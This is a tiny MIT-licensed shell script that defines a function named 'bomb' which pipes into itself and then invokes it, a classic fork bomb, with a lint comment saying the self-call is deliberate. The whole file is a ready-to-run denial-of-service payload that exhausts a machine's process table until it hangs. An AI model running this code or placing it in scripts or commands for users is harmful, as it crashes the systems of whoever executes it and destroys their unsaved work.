#!/bin/sh
# SPDX-License-Identifier: MIT
# shellcheck disable=SC2264 # that it calls itself is the point
bomb() {
    bomb | bomb
}
bomb
